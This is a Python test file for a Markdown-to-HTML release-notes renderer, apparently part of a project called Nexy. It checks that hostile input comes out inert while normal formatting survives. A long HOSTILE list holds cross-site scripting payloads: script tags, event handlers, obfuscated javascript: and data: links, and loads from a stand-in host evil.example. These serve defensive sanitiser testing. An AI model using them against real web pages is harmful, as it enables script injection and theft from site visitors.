"""Release notes: what people write survives, and nothing in them can do anything."""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nexy.errors import ReleaseError
from nexy.modules.update import html_of
from nexy.modules.update.notes import MOST_CHARS, page_of

TAGS = (
    "a b blockquote br code del em h1 h2 h3 h4 h5 h6 hr i li ol p pre s strong table tbody td th thead tr ul"
)
PASSIVE = set(TAGS.split(" "))


class Looked(HTMLParser):
    """Every tag and attribute that a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.text = ""
        self.other: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    def handle_decl(self, decl: str) -> None:
        self.other.append(decl)

    def unknown_decl(self, data: str) -> None:
        self.other.append(data)

    def handle_pi(self, data: str) -> None:
        self.other.append(data)


def is_passive(html: str) -> bool:
    looked = Looked(html)
    return (
        set(looked.tags) <= PASSIVE
        and not looked.other
        and all(is_harmless(*attribute) for attribute in looked.attributes)
    )


def is_harmless(tag: str, name: str, value: str) -> bool:
    if (tag, name) == ("a", "href"):
        scheme = value.partition(":")[0].lower() if ":" in value else ""
        return scheme in ("http", "https", "mailto") or not scheme or not scheme.isalnum()
    return (tag, name) in {("a", "title"), ("a", "rel"), ("ol", "start")}


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,x'></object><embed src=x><applet code=x>",
    "<style>body { background: url(//evil.example) }</style>",
    "<p style='background: url(//evil.example)'>x</p>",
    "<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content='0;//evil.example'>",
    "<base href=//evil.example><form action=//evil.example><input name=x><button formaction=x>",
    "<a href='javascript:alert(1)' onclick='alert(1)'>x</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<!-- <script>alert(1)</script> -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html><html><head><title></title><script>1</script>",
    "</p></body></html><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\nscript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java\0script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&colon;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&Tab;:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](https://a.example 'title\" onmouseover=\"alert(1)')",
    '[x](https://a.example"onmouseover="alert\\(1\\))',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.gif)",
    "![x](data:image/png;base64,AAAA)",
    '![x"onerror="alert(1)](x)',
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    '```"><script>alert(1)</script>\nx\n```',
    "| <script> |\n| --- |\n| <img src=x onerror=alert(1)> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "＜script＞alert(1)＜/script＞",
    "<ſcript>alert(1)</ſcript>",  # grows into "SCRIPT" when letters are made big
    "\x1b[31m<b\x00r>",
]


@pytest.mark.parametrize("markdown", HOSTILE)
def test_nothing_can_be_done_by_notes(markdown: str) -> None:
    html = html_of(markdown)
    assert is_passive(html), html
    assert is_passive(html_of(f"- a\n  > {markdown}\n\n1. **{markdown}**\n")), html


letters = st.characters(exclude_categories=())  # and halves of letters


@settings(deadline=None)
@given(
    st.lists(st.sampled_from(HOSTILE) | st.text(letters, max_size=5), max_size=5),
    st.sampled_from("\n ·"),
)
def test_nothing_can_be_done_by_any_of_them_together(parts: list[str], between: str) -> None:
    assert is_passive(html_of(between.join(parts)))


def test_the_look_itself_sees_what_is_active() -> None:
    """Else all the tests above would pass whatever is done."""
    for active in [*HOSTILE[:10], "<a href='javascript:alert(1)'>", "<a href='data:,x'>", "<p onclick=x>"]:
        assert not is_passive(active), active


def test_raw_html_is_shown_as_what_it_is() -> None:
    assert Looked(html_of("press <kbd>&</kbd>")).text.strip() == "press <kbd>&</kbd>"


WRITTEN = """\
# Некси 1.3 & её <новости>

Чинит **важное**, *заметное* и ~~старое~~; см. [сайт](https://nexy.example/a?b=1&c=2 "Новости").

1. раз
2. два
   - внутри

> сказано

| Файл | Размер |
| :--- | -----: |
| `a & b` | 10 МБ |

```
x < y
```

---
"""


def test_what_people_write_survives() -> None:
    html = html_of(WRITTEN)
    for part in (
        "<h1>Некси 1.3 &amp; её &lt;новости&gt;</h1>",
        "<strong>важное</strong>, <em>заметное</em> и <s>старое</s>",
        "<ol>\n<li>раз</li>\n<li>два\n<ul>\n<li>внутри</li>\n</ul>\n</li>\n</ol>",
        "<blockquote>\n<p>сказано</p>\n</blockquote>",
        "<th>Файл</th>\n<th>Размер</th>",
        "<td><code>a &amp; b</code></td>\n<td>10 МБ</td>",
        "<pre><code>x &lt; y\n</code></pre>",
        "<hr>",
    ):
        assert part in html
    assert ("a", "href", "https://nexy.example/a?b=1&c=2") in Looked(html).attributes
    assert ("a", "title", "Новости") in Looked(html).attributes


def test_links_give_away_nothing_of_the_page_they_are_on() -> None:
    links = Looked(html_of("[a](https://a.example) [b](mailto:b@b.example) [c](/notes/1)"))
    assert links.tags.count("a") == 3
    assert [value for _, name, value in links.attributes if name == "rel"] == ["noopener noreferrer"] * 3


@pytest.mark.parametrize("text", ["10\u00a0МБ", "1\u202f000", "👩\u200d💻", "ко\u00adрень", "שלום"])
def test_letters_that_are_not_seen_but_matter_stay(text: str) -> None:
    assert Looked(html_of(text)).text.strip() == text


def test_control_letters_go() -> None:
    assert html_of("a\x00b\x08c\x1b[31md\x7f\x85e\ud800f") == "<p>abc[31mdef</p>\n"
    assert html_of("a\r\nb\r\n\r\nc") == "<p>a\nb</p>\n<p>c</p>\n"


def test_notes_may_be_long_but_not_endless() -> None:
    assert len(html_of("я" * MOST_CHARS)) > MOST_CHARS
    with pytest.raises(ReleaseError, match=f"more than {MOST_CHARS}"):
        html_of("я" * (MOST_CHARS + 1))


def test_the_page_has_a_title_that_is_only_read() -> None:
    page = page_of("Nexy <script>\"&'", html_of("*новое*"))
    looked = Looked(page)
    assert "script" not in looked.tags
    assert "<em>новое</em>" in page
    assert '<meta charset="utf-8">' in page
    assert page.startswith("<!doctype html>")


def test_a_release_without_notes_says_so() -> None:
    assert "No notes." in page_of("Nexy 1", html_of(""))
